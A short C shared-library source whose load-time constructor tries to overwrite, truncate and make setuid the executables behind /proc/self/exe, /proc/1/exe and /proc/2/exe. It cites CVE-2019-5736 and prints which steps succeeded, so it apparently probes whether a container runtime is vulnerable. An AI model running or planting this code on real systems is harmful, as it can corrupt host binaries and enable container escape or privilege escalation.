/* on_load.so: runs before main of whatever program loads it, and tries to change the file of that program.
 * CVE-2019-5736 overwrote the container runtime through /proc/self/exe. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void change_program(void)
{
	char path[300] = "";
	static const char *const links[] = { "/proc/self/exe", "/proc/2/exe", "/proc/1/exe" };

	(void)!readlink(links[0], path, sizeof(path) - 1);
	printf("exe %s\n", path);
	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		int fd = open(links[i], O_WRONLY), handle = open(links[i], O_PATH);
		int changed = chmod(links[i], 04777) == 0, cut = truncate(links[i], 1) == 0;
		int dated = utimensat(AT_FDCWD, links[i], NULL, 0) == 0;
		if (fd >= 0)
			(void)!write(fd, "overwritten", 11);
		printf("%d %d %d %d %d\n", fd >= 0, handle >= 0, changed, cut, dated);
	}
	fflush(stdout);
	_exit(0);
}
